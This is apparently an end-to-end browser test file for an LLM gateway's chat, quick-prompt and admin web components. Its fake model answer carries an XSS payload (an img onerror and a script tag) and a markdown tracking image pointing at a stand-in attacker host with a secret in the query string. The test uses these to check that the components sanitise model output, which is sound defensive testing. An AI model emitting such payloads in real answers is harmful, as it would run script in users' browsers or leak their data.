/**
 * The gateway's web components in real headless Chromium, loaded from /api/web-components/… of a
 * gateway on loopback that asks the fake LLM provider: the chat streams an answer (rendered
 * markdown, with what a model could inject made harmless), takes feedback, stops, sends images;
 * a Quick Prompt button asks its prompt through the chat; the admin overview shows the tenant.
 */
import { expect, layer } from "@effect/vitest"
import { Effect, Layer } from "effect"
import type { Page } from "playwright-core"
import { buildWeb } from "../../scripts/build-web.mjs"
import { gatewayTestLayer, GatewayUrl } from "../../src/layers/Test.ts"
import { defaultBackend } from "../support/backends.ts"
import { browser } from "../support/browser.ts"
import { FakeLlmServer } from "../support/fake-llm.ts"
import { as, json, useFakeProvider } from "../support/gateway.ts"
import { call } from "../support/http.ts"
import { SCREENSHOTS } from "./viewer-tab.ts"

const alice = as("acme", "alice")
const PNG_1x1 = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="

/** A page of the gateway's origin holding `body`, with the components' scripts and styles. */
const pageWith = (body: string) =>
  `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">
<link rel="stylesheet" href="/api/web-components/chat/style">
<link rel="stylesheet" href="/api/web-components/quick-prompt/style">
<link rel="stylesheet" href="/api/web-components/admin/style">
<script type="module" src="/api/web-components/chat/script"></script>
<script type="module" src="/api/web-components/quick-prompt/script"></script>
<script type="module" src="/api/web-components/admin/script"></script>
<style>body { font-family: sans-serif; margin: 16px; background: #fff; }</style>
</head><body>${body}</body></html>`

const setup = Effect.gen(function*() {
  yield* Effect.promise(() => buildWeb())
  const base = yield* GatewayUrl
  const fake = yield* FakeLlmServer
  yield* useFakeProvider(base, fake.url, alice, { capabilities: { vision: true, tools: false } })
  return { base, fake }
})

/**
 * A tab showing `body` at `{gateway}/page`, as Alice: her identity comes as the trusted headers an
 * authenticating proxy would add to every request of the page (the WebSocket's too).
 */
const openPage = (base: string, body: string) =>
  Effect.gen(function*() {
    const chrome = yield* browser
    return yield* Effect.promise(async () => {
      const context = await chrome.newContext({ viewport: { width: 900, height: 700 }, extraHTTPHeaders: alice })
      const tab = await context.newPage()
      const errors: Array<string> = []
      tab.on("pageerror", (error) => errors.push(error.message))
      await tab.route(`${base}/page`, (route) => route.fulfill({ contentType: "text/html", body: pageWith(body) }))
      await tab.goto(`${base}/page`)
      return { tab, errors }
    })
  })

/** The last answer's text as shown. */
const answerText = (tab: Page) => tab.locator("docstack-chat li.answer .markdown").last().innerText()

const send = async (tab: Page, question: string) => {
  await tab.getByLabel("Your question").fill(question)
  await tab.getByRole("button", { name: "Send" }).click()
}

const ANSWER = [
  "Here is **the plan**:\n\n",
  "1. Read the file\n2. Summarise it\n\n",
  "| Step | Time |\n|---|---|\n| read | 2 min |\n\n",
  "<img src=x onerror=\"window.__injected = true\"><script>window.__injected = true</script>\n\n",
  "![tracking pixel](https://attacker.invalid/pixel.png?secret=42) and ",
  `![inline dot](data:image/png;base64,${PNG_1x1})\n\n`,
  "[the docs](https://example.org/docs)"
].join("")

layer(Layer.provideMerge(gatewayTestLayer(defaultBackend.config), FakeLlmServer.layer), { timeout: 120_000 })(
  "the gateway's web components",
  (it) => {
    it.scoped("the chat streams a markdown answer, sanitized, and takes feedback", () =>
      Effect.gen(function*() {
        const { base, fake } = yield* setup
        const { errors, tab } = yield* openPage(base, `<docstack-chat id="chat"></docstack-chat>`)
        fake.script({ text: ANSWER, chunks: 12, delayMs: 150 })
        yield* Effect.promise(async () => {
          await send(tab, "What is the plan?")
          // Part of the answer shows while the rest is still being generated.
          await tab.waitForFunction(() =>
            document.querySelector("docstack-chat")!.shadowRoot!.querySelector("li.answer[aria-busy=true] .markdown")
              ?.textContent?.includes("the plan")
          )
          await tab.getByRole("button", { name: "Good answer" }).waitFor()
        })
        const chat = tab.locator("docstack-chat")
        expect(yield* Effect.promise(() => chat.locator("li.question").innerText())).toBe("What is the plan?")
        expect(yield* Effect.promise(() => chat.locator("li.answer strong").innerText())).toBe("the plan")
        expect(yield* Effect.promise(() => chat.locator("li.answer ol li").allInnerTexts())).toEqual([
          "Read the file",
          "Summarise it"
        ])
        expect(yield* Effect.promise(() => chat.locator("li.answer td").allInnerTexts())).toEqual(["read", "2 min"])
        // Nothing the model wrote ran; the remote image is a link, the inline one an image.
        expect(yield* Effect.promise(() => tab.evaluate(() => (window as any).__injected))).toBeUndefined()
        expect(yield* Effect.promise(() => chat.locator("li.answer script").count())).toBe(0)
        const images = yield* Effect.promise(() =>
          chat.locator("li.answer img").evaluateAll((all) => all.map((img) => img.getAttribute("src")!.slice(0, 22)))
        )
        expect(images).toEqual(["data:image/png;base64,"])
        expect(yield* Effect.promise(() => chat.locator("li.answer a[href$='/x']").count())).toBe(0)
        const pixel = chat.getByRole("link", { name: "tracking pixel" })
        expect(yield* Effect.promise(() => pixel.getAttribute("href"))).toBe(
          "https://attacker.invalid/pixel.png?secret=42"
        )
        expect(yield* Effect.promise(() => chat.getByRole("link", { name: "the docs" }).getAttribute("rel"))).toBe(
          "noopener noreferrer nofollow"
        )
        yield* Effect.promise(() => tab.screenshot({ path: `${SCREENSHOTS}/gateway-chat.png` }))

        yield* Effect.promise(() => chat.getByRole("button", { name: "Good answer" }).click())
        yield* Effect.promise(() => chat.getByText("Thank you for your feedback.").waitFor())
        expect(
          yield* Effect.promise(() => chat.getByRole("button", { name: "Good answer" }).getAttribute("aria-pressed"))
        )
          .toBe("true")
        const conversation = yield* Effect.promise(() => chat.getAttribute("conversation"))
        const requests = (yield* call(`${base}/api/v1/requests?conversation=${conversation}`, { headers: alice })).json
        expect(requests.content.map((r: any) => [r.response, r.feedback])).toEqual([[ANSWER, "GOOD"]])
        expect(errors).toEqual([])
      }))

    it.scoped("Stop ends the answer being written; its first part stays, here and in the record", () =>
      Effect.gen(function*() {
        const { base, fake } = yield* setup
        const { tab } = yield* openPage(base, `<docstack-chat></docstack-chat>`)
        fake.script({ text: "One. Two. Three. Four. Five. Six. Seven. Eight. Nine. Ten.", chunks: 10, delayMs: 400 })
        yield* Effect.promise(async () => {
          await send(tab, "Count slowly")
          await tab.waitForFunction(() =>
            document.querySelector("docstack-chat")!.shadowRoot!.querySelector(".markdown")?.textContent?.includes(
              "Two."
            )
          )
          await tab.getByRole("button", { name: "Stop" }).click()
          await tab.locator("docstack-chat").getByText("Stopped.").waitFor()
        })
        const shown = yield* Effect.promise(() => answerText(tab))
        expect(shown).toMatch(/^One\. Two\./)
        expect(shown).not.toContain("Ten.")
        // The Send button is back, and the gateway kept what was shown.
        expect(yield* Effect.promise(() => tab.getByRole("button", { name: "Send" }).isVisible())).toBe(true)
        const conversation = yield* Effect.promise(() => tab.locator("docstack-chat").getAttribute("conversation"))
        const [request] = (yield* call(`${base}/api/v1/requests?conversation=${conversation}`, { headers: alice })).json
          .content
        expect(request.status).toBe("STOPPED")
        expect(shown).toBe(request.response.trim())
      }))

    it.scoped("a chat given an earlier conversation shows its turns, and goes on with it", () =>
      Effect.gen(function*() {
        const { base, fake } = yield* setup
        const ask = (content: ReadonlyArray<unknown>, conversation?: string) =>
          call(
            `${base}/api/v1/requests`,
            json(alice, { ...(conversation ? { conversation } : {}), inputs: [{ role: "user", content }] })
          )
        fake.script({ text: "Paris is **the capital**." })
        const first = (yield* ask([{ type: "text", value: "What is the capital of France?" }])).json
        fake.script({ text: "A dot." })
        yield* ask([
          { type: "text", value: "And this image?" },
          { type: "image", value: `data:image/png;base64,${PNG_1x1}` }
        ], first.conversationId)
        yield* call(`${base}/api/v1/requests/${first.id}/feedback/GOOD`, { headers: alice, method: "PUT" })
        // Retried: the first answer to the second question is replaced and leaves the conversation.
        fake.script({ text: "A single dark pixel." })
        yield* call(`${base}/api/v1/requests/retry`, json(alice, { conversation: first.conversationId }))

        const { errors, tab } = yield* openPage(
          base,
          `<docstack-chat conversation="${first.conversationId}"></docstack-chat>`
        )
        const chat = tab.locator("docstack-chat")
        yield* Effect.promise(() => chat.locator("li.answer").nth(1).waitFor())
        expect(yield* Effect.promise(() => chat.locator("li.question").allInnerTexts())).toEqual([
          "What is the capital of France?",
          "And this image?"
        ])
        expect(yield* Effect.promise(() => chat.locator("li.answer .markdown").allInnerTexts())).toEqual([
          "Paris is the capital.",
          "A single dark pixel."
        ])
        expect(yield* Effect.promise(() => chat.locator("li.answer strong").innerText())).toBe("the capital")
        const thumbnail = chat.locator("li.question img")
        expect(yield* Effect.promise(() => thumbnail.evaluate((img: HTMLImageElement) => img.naturalWidth))).toBe(1)
        expect(
          yield* Effect.promise(() =>
            chat.getByRole("button", { name: "Good answer" }).first().getAttribute("aria-pressed")
          )
        ).toBe("true")
        yield* Effect.promise(() => tab.screenshot({ path: `${SCREENSHOTS}/gateway-chat-history.png` }))

        // The next question goes on in the same conversation, the earlier turns sent with it.
        fake.script({ text: "Berlin." })
        yield* Effect.promise(async () => {
          await send(tab, "And of Germany?")
          await tab.locator("docstack-chat li.answer").nth(2).getByRole("button", { name: "Good answer" }).waitFor()
        })
        expect(yield* Effect.promise(() => chat.locator("li.question").count())).toBe(3)
        expect(yield* Effect.promise(() => chat.getAttribute("conversation"))).toBe(first.conversationId)
        const sent = fake.requests.at(-1)!.body.messages.map((m: { role: string }) => m.role)
        expect(sent.filter((role: string) => role === "assistant")).toHaveLength(2)
        expect(errors).toEqual([])
      }))

    it.scoped("the page switches the chat between conversations: each shows its own turns", () =>
      Effect.gen(function*() {
        const { base, fake } = yield* setup
        fake.script({ text: "Elsewhere." })
        const other = (yield* call(
          `${base}/api/v1/requests`,
          json(alice, { inputs: [{ role: "user", content: [{ type: "text", value: "Another question?" }] }] })
        )).json
        const { errors, tab } = yield* openPage(base, `<docstack-chat></docstack-chat>`)
        const chat = tab.locator("docstack-chat")
        const questions = () => chat.locator("li.question").allInnerTexts()
        /** The page sets (or removes) the chat's conversation, then the turns shown once they are `expected`. */
        const switchTo = (conversation: string | null, expected: ReadonlyArray<string>) =>
          Effect.promise(async () => {
            await chat.evaluate(
              (element, id) =>
                id === null ? element.removeAttribute("conversation") : element.setAttribute("conversation", id),
              conversation
            )
            await tab.waitForFunction(
              (wanted) =>
                JSON.stringify(
                  [...document.querySelector("docstack-chat")!.shadowRoot!.querySelectorAll("li.question")].map((q) =>
                    (q as HTMLElement).innerText
                  )
                ) === wanted,
              JSON.stringify(expected),
              { timeout: 10_000 }
            ).catch(() => undefined)
            return questions()
          })
        fake.script({ text: "Started here." })
        yield* Effect.promise(async () => {
          await send(tab, "Started here?")
          await tab.getByRole("button", { name: "Good answer" }).waitFor()
        })
        const started = yield* Effect.promise(() => chat.getAttribute("conversation"))
        expect(yield* switchTo(other.conversationId, ["Another question?"])).toEqual(["Another question?"])
        expect(yield* switchTo(started, ["Started here?"])).toEqual(["Started here?"])
        expect(yield* Effect.promise(() => answerText(tab))).toBe("Started here.")
        expect(yield* switchTo(null, [])).toEqual([])
        expect(errors).toEqual([])
      }))

    it.scoped("a conversation that cannot be read says why", () =>
      Effect.gen(function*() {
        const { base } = yield* setup
        const { tab } = yield* openPage(base, `<docstack-chat conversation="no-such-conversation"></docstack-chat>`)
        const alert = tab.locator("docstack-chat").getByRole("alert")
        yield* Effect.promise(() => alert.waitFor())
        expect(yield* Effect.promise(() => alert.innerText())).toMatch(/^Could not load: .*no-such-conversation/)
      }))

    it.scoped("attached images go with the question and show in it", () =>
      Effect.gen(function*() {
        const { base, fake } = yield* setup
        const { tab } = yield* openPage(base, `<docstack-chat></docstack-chat>`)
        fake.script({ text: "A single dark pixel." })
        yield* Effect.promise(async () => {
          await tab.getByLabel("Attach images").setInputFiles({
            name: "dot.png",
            mimeType: "image/png",
            buffer: Buffer.from(PNG_1x1, "base64")
          })
          await tab.getByRole("button", { name: "Remove image dot.png" }).waitFor()
          await send(tab, "What is in this image?")
          await tab.getByRole("button", { name: "Good answer" }).waitFor()
        })
        const thumbnail = tab.locator("docstack-chat li.question img")
        expect(yield* Effect.promise(() => thumbnail.evaluate((img: HTMLImageElement) => img.naturalWidth))).toBe(1)
        const sent = fake.requests.at(-1)!.body.messages.at(-1).content
        expect(sent).toEqual([
          { type: "text", text: "What is in this image?" },
          { type: "image_url", image_url: { url: `data:image/png;base64,${PNG_1x1}` } }
        ])
      }))

    it.scoped("a Quick Prompt button asks its prompt through the chat, with the text typed there", () =>
      Effect.gen(function*() {
        const { base, fake } = yield* setup
        yield* call(
          `${base}/api/v1/admin/prompts`,
          json(alice, {
            id: "shorten",
            template: "Make this shorter: {{input}}",
            name: "Shorten",
            category: "Writing",
            quickPrompt: { enabled: true, label: "Shorten", icon: "✂", order: 1 }
          })
        )
        const { tab } = yield* openPage(
          base,
          `<docstack-quick-prompt for="chat"></docstack-quick-prompt><docstack-chat id="chat"></docstack-chat>`
        )
        fake.script({ text: "Short." })
        yield* Effect.promise(async () => {
          await tab.getByLabel("Your question").fill("A very long sentence indeed")
          await tab.getByRole("button", { name: "Shorten" }).click()
          await tab.getByRole("button", { name: "Good answer" }).waitFor()
        })
        expect(yield* Effect.promise(() => tab.locator("docstack-chat li.question").innerText())).toBe(
          "Shorten: A very long sentence indeed"
        )
        expect(fake.requests.at(-1)!.body.messages.at(-1).content).toEqual(
          "Make this shorter: A very long sentence indeed"
        )
        expect(yield* Effect.promise(() => answerText(tab))).toBe("Short.")
        yield* Effect.promise(() => tab.screenshot({ path: `${SCREENSHOTS}/gateway-quick-prompt.png` }))
      }))

    it.scoped("the admin overview shows the tenant's usage, providers and prompts", () =>
      Effect.gen(function*() {
        const { base, fake } = yield* setup
        fake.script({ text: "Counted." })
        yield* call(
          `${base}/api/v1/requests`,
          json(alice, { inputs: [{ role: "user", content: [{ type: "text", value: "Count me" }] }] })
        )
        const { tab } = yield* openPage(base, `<docstack-ai-admin></docstack-ai-admin>`)
        const admin = tab.locator("docstack-ai-admin")
        yield* Effect.promise(() => admin.getByRole("table", { name: "LLM providers" }).waitFor())
        const requests = yield* Effect.promise(() =>
          admin.locator(".figure").filter({ hasText: "Requests" }).locator("dd").innerText()
        )
        const stats = (yield* call(`${base}/api/v1/admin/stats/global`, { headers: alice })).json
        expect(Number(requests)).toBe(stats.requests)
        expect(stats.requests).toBeGreaterThan(0)
        expect(
          yield* Effect.promise(() =>
            admin.getByRole("table", { name: "LLM providers" }).locator("tbody td").allInnerTexts()
          )
        )
          .toEqual(["local", "openai-compatible", "llama3", "yes"])
        yield* Effect.promise(() => tab.screenshot({ path: `${SCREENSHOTS}/gateway-admin.png`, fullPage: true }))
      }))
  }
)
